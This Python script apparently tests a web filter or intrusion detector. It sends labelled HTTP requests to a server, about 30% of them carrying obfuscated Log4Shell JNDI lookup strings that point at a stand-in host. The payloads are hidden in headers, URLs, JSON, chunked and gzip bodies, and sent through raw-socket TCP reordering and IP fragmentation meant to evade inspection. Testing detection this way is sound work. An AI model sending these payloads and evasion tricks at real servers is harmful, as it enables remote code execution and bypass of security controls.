"""Sends many HTTP requests, attacks among them, cut and wrapped in every way, over real sockets
and, for segments out of order and fragments, over a TCP of its own.

usage: http_requests.py SERVER COUNT SEED. Writes {"url": [is_attack, what came back]} as JSON.
"""

import gzip
import json
import random
import socket
import struct
import sys

TIMEOUT = 10
NAMES = ("${jndi:ldap://203.0.113.9/%d}", "${${lower:j}ndi:${lower:l}dap://203.0.113.9/%d}",
         "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/%d}")
HARMLESS = ("${date:yyyy} %d", "jndi:ldap://203.0.113.9/%d", "$ {jndi} %d", "a {b} ${c %d",
            "Mozilla/5.0 (X11; Linux x86_64; rv:%d)")


def head(method, number, *lines):
    return "\r\n".join([f"{method} /{number} HTTP/1.1", "Host: www.example.test", *lines, "", ""])


def in_header(number, text, random_):
    return head("GET", number, f"X-Api-Version: {text}").encode()


def in_url(number, text, random_):
    quoted = "".join(c if c.isalnum() else f"%{ord(c):02x}" for c in text)
    return head("GET", f"{number}?q={quoted}").encode()


def in_json(number, text, random_):
    body = json.dumps({"padding": "x" * random_.randrange(3000), "name": text, "after": 1}).encode()
    return head("POST", number, "Content-Type: application/json",
                f"Content-Length: {len(body)}").encode() + body


def in_chunks(number, text, random_):
    body = ("name=" + text + "&x=" + "y" * random_.randrange(200)).encode()
    size = random_.randrange(1, 20)
    chunks = [body[i:i + size] for i in range(0, len(body), size)]
    coded = b"".join(b"%x\r\n%b\r\n" % (len(chunk), chunk) for chunk in chunks) + b"0\r\n\r\n"
    return head("POST", number, "Transfer-Encoding: chunked").encode() + coded


def in_gzip(number, text, random_):
    body = gzip.compress(b"z" * random_.randrange(500) + text.encode() + b" end")
    return head("POST", number, "Content-Encoding: gzip",
                f"Content-Length: {len(body)}").encode() + body


WRAPS = (in_header, in_url, in_json, in_chunks, in_gzip)


def answers(connection, n):
    """What came back: the status of each answer, and how it ended."""
    data = b""
    try:
        while data.count(b"served\n") < n:
            more = connection.recv(65536)
            if not more:
                break
            data += more
    except ConnectionError:
        return "reset"
    except TimeoutError:
        return "silence"
    return " ".join(part[:3].decode() for part in data.split(b"HTTP/1.1 ")[1:])


def over_socket(server, messages, size):
    with socket.create_connection((server, 80), TIMEOUT) as connection:
        connection.settimeout(TIMEOUT)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            for message in messages:
                for at in range(0, len(message), size):
                    connection.sendall(message[at:at + size])
        except ConnectionError:
            return "reset"
        return answers(connection, len(messages))


class Segments:
    """A TCP of a few lines, whose segments go out in any order and several times."""

    def __init__(self, server, port, random_):
        self.server, self.port, self.random = server, port, random_
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.socket.settimeout(TIMEOUT)
        self.socket.connect((server, 0))
        self.source = self.socket.getsockname()[0]
        self.seq, self.ack = random_.randrange(1 << 32), 0

    def send(self, flags, seq, data=b""):
        header = struct.pack("!HHIIBBHHH", self.port, 80, seq % (1 << 32), self.ack, 0x50, flags,
                             65000, 0, 0)
        pseudo = socket.inet_aton(self.source) + socket.inet_aton(self.server) + \
            struct.pack("!BBH", 0, 6, len(header) + len(data))
        whole = pseudo + header + data + b"\0" * (len(data) % 2)
        total = sum(struct.unpack(f"!{len(whole) // 2}H", whole))
        total = (total & 0xffff) + (total >> 16)
        total = ~((total & 0xffff) + (total >> 16)) & 0xffff
        self.deliver(header[:16] + struct.pack("!H", total) + header[18:] + data)

    def deliver(self, segment):
        self.socket.send(segment)

    def receive(self):
        """The next segment for us: flags, and data that are new."""
        while True:
            packet = self.socket.recv(65536)
            tcp = packet[(packet[0] & 15) * 4:]
            if struct.unpack("!HH", tcp[:4]) == (80, self.port):
                break
        seq, flags, data = struct.unpack("!I", tcp[4:8])[0], tcp[13], tcp[(tcp[12] >> 4) * 4:]
        if flags & 2:
            self.ack = (seq + 1) % (1 << 32)
        elif seq == self.ack and data:
            self.ack = (seq + len(data)) % (1 << 32)
        else:
            data = b""
        return flags, data

    def talk(self, message):
        self.send(2, self.seq)
        self.receive()
        start = self.seq + 1
        self.send(16, start)
        pieces = [(at, message[at:at + 40]) for at in range(0, len(message), 40)]
        pieces += self.random.sample(pieces, len(pieces) // 3)  # some come twice
        self.random.shuffle(pieces)
        for at, piece in pieces:
            self.send(24, start + at, piece)
        data = b""
        try:
            while b"served\n" not in data:
                flags, more = self.receive()
                data += more
                if flags & 4:
                    return "reset"
                if flags & 1:
                    break
        except TimeoutError:
            return "silence"
        self.send(20, start + len(message))
        return " ".join(part[:3].decode() for part in data.split(b"HTTP/1.1 ")[1:])


class Fragments(Segments):
    """The same, each segment in fragments of IP, the last ones first or in any order."""

    def __init__(self, *args):
        super().__init__(*args)
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def deliver(self, segment):
        name, size = self.random.randrange(1, 65536), self.random.choice((24, 32, 48))
        parts = [(at, segment[at:at + size]) for at in range(0, len(segment), size)]
        self.random.shuffle(parts)
        for at, part in parts:
            more = 0x2000 if at + size < len(segment) else 0
            self.out.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, name, more | at // 8, 64, 6, 0,
                                        socket.inet_aton(self.source),
                                        socket.inet_aton(self.server)) + part, (self.server, 0))


def main():
    server, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    random_ = random.Random(seed)
    results = {}
    number = 0
    while number < count:
        attack = random_.random() < 0.3
        how = random_.choice(("whole", "bytes", "pieces", "order", "fragments", "alive"))
        texts = random_.choice(NAMES if attack else HARMLESS)
        messages, urls = [], []
        for last in range(random_.randrange(2, 5) if how == "alive" else 1, 0, -1):
            # Of a connection kept alive the last request is the attack, those before it are not.
            text = texts if last == 1 else random_.choice(HARMLESS)
            messages.append(random_.choice(WRAPS)(number, text % number, random_))
            urls.append((number, attack and last == 1))
            number += 1
        if how in ("order", "fragments"):
            port = 20000 + number % 12000
            kind = Segments if how == "order" else Fragments
            came = kind(server, port, random_).talk(messages[0])
        elif how == "alive":
            came = alive(server, messages)
        else:
            size = {"whole": 1 << 20, "bytes": 1, "pieces": random_.randrange(2, 100)}[how]
            came = over_socket(server, messages, size)
        for at, (url, is_attack) in enumerate(urls):
            results[url] = [is_attack, came.split()[at] if " " in came else came, how]
    json.dump(results, sys.stdout)


def alive(server, messages):
    """One connection, the answer to each request before the next."""
    came = []
    with socket.create_connection((server, 80), TIMEOUT) as connection:
        connection.settimeout(TIMEOUT)
        for message in messages:
            try:
                connection.sendall(message)
                came.append(answers(connection, 1) or "end")
            except ConnectionError:
                came.append("reset")
    return " ".join(came)


if __name__ == "__main__":
    main()
